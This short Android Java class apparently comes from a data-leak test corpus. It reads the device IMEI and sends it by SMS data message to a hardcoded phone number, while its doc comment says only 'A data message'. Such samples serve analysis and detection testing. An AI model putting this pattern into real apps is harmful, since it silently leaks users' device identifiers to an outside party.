package org.corpus;

import android.telephony.SmsManager;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** A data message. */
public class SmsData extends Screen {
    @Override
    protected void act() throws Exception {
        byte[] data = Net.utf8("\u0007" + Owner.imei(this));
        SmsManager.getDefault()
                .sendDataMessage("+12025550147", null, (short) 8901, data, null, null);
    }
}
